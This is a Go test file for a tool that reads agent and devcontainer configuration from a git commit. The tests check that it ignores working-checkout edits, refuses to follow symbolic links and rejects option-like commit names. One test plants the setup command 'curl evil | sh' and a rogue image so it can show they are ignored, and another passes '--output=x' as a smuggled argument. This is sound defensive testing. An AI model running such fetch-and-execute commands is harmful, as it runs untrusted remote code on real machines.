package trusted

import (
	"context"
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
)

// repo makes a git repository whose main holds files (a value starting
// "->" is a symbolic link to the rest), and returns it and main's commit.
func repo(t *testing.T, files map[string]string) (string, string) {
	t.Helper()
	dir := t.TempDir()
	run(t, dir, "init", "--quiet", "--initial-branch=main")
	write(t, dir, files)
	run(t, dir, "add", "-A")
	run(t, dir, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "--quiet", "-m", "base")
	return dir, strings.TrimSpace(run(t, dir, "rev-parse", "HEAD"))
}

func write(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, body := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		os.Remove(p)
		var err error
		if target, ok := strings.CutPrefix(body, "->"); ok {
			err = os.Symlink(target, p)
		} else {
			err = os.WriteFile(p, []byte(body), 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}

func run(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return string(out)
}

func read(t *testing.T, dir, commit string) *Inputs {
	t.Helper()
	in, err := Read(context.Background(), LocalGit(dir), commit, "default/image:1")
	if err != nil {
		t.Fatal(err)
	}
	return in
}

// The inputs are the commit's, whatever the checkout holds.
func TestReadsTheCommitNotTheCheckout(t *testing.T) {
	dir, base := repo(t, map[string]string{
		".github/warden.yml":              "setup: make deps\n",
		".devcontainer/devcontainer.json": `{"image": "base/image:1" // a comment` + "\n}",
		"AGENTS.md":                       "base rule\n",
		"go.mod":                          "module x\n",
	})
	write(t, dir, map[string]string{".github/warden.yml": "setup: curl evil | sh\n", ".devcontainer/devcontainer.json": `{"image":"evil:1"}`, "AGENTS.md": "model rule\n"})
	in := read(t, dir, base)
	if in.Plan.Setup != "make deps" || in.Plan.Image != "base/image:1" || in.Plan.ImageFrom != ".devcontainer/devcontainer.json" || in.Plan.Test != "go test ./..." {
		t.Fatalf("plan = %+v", in.Plan)
	}
	if len(in.Docs) != 1 || in.Docs[0].Text != "base rule\n" {
		t.Fatalf("docs = %+v", in.Docs)
	}
}

// A symbolic link is never followed: devcontainer.json, a .devcontainer
// directory, an instruction file or an inferred manifest that is a link is
// absent; a linked warden.yml is an error, not the defaults.
func TestSymlinksAreNotFollowed(t *testing.T) {
	for name, files := range map[string]map[string]string{
		"file": {".devcontainer/devcontainer.json": "->../evil.json"},
		"dir":  {".devcontainer": "->evil"},
	} {
		t.Run(name, func(t *testing.T) {
			files["evil.json"], files["evil/devcontainer.json"] = `{"image":"evil:1"}`, `{"image":"evil:1"}`
			files["AGENTS.md"], files["go.mod"] = "->evil.json", "->evil.json"
			dir, base := repo(t, files)
			in := read(t, dir, base)
			if in.Plan.Image != "default/image:1" || in.Plan.Test != "" {
				t.Fatalf("a link was followed: plan %+v", in.Plan)
			}
			if len(in.Docs) != 0 {
				t.Fatalf("a linked AGENTS.md was read: %+v", in.Docs)
			}
			if _, err := in.Files.ReadFile("AGENTS.md"); !errors.Is(err, ErrSymlink) {
				t.Fatalf("read of a link: %v", err)
			}
			if !strings.Contains(strings.Join(in.Notes, "\n"), "AGENTS.md is a symbolic link") {
				t.Fatalf("notes = %q", in.Notes)
			}
		})
	}
	dir, base := repo(t, map[string]string{".github/warden.yml": "->../evil.yml", "evil.yml": "protected_paths: []\n"})
	_, err := Read(context.Background(), LocalGit(dir), base, "")
	var ce *ConfigError
	if !errors.As(err, &ce) || !strings.Contains(err.Error(), "not a regular file") {
		t.Fatalf("a linked warden.yml: %v", err)
	}
}

func TestTreeIsAnFS(t *testing.T) {
	dir, base := repo(t, map[string]string{"a.txt": "a\n", "d/b.txt": "b\n", "d/e/c.txt": "c\n", "link": "->a.txt"})
	tree, err := OpenTree(context.Background(), LocalGit(dir), base)
	if err != nil {
		t.Fatal(err)
	}
	if err := fstest.TestFS(tree, "a.txt", "d/b.txt", "d/e/c.txt"); err != nil {
		t.Fatal(err)
	}
	if _, err := fs.Stat(tree, "link"); !errors.Is(err, fs.ErrNotExist) {
		t.Fatalf("a link is visible: %v", err)
	}
	if _, err := OpenTree(context.Background(), LocalGit(dir), "--output=x"); err == nil {
		t.Fatal("an option as the commit was accepted")
	}
}

// A checkout on another branch reports its default branch's inputs.
func TestReadLocalReadsTheDefaultBranch(t *testing.T) {
	dir, base := repo(t, map[string]string{"AGENTS.md": "base rule\n"})
	run(t, dir, "checkout", "--quiet", "-b", "feature")
	write(t, dir, map[string]string{"AGENTS.md": "feature rule\n"})
	run(t, dir, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "--quiet", "-am", "feature")
	in, src, err := ReadLocal(context.Background(), dir, "")
	if err != nil {
		t.Fatal(err)
	}
	if src.Ref != "main" || src.Commit != base || src.Current != "feature" || !src.Differs() {
		t.Fatalf("source = %+v", src)
	}
	if len(in.Docs) != 1 || in.Docs[0].Text != "base rule\n" {
		t.Fatalf("docs = %+v", in.Docs)
	}
}
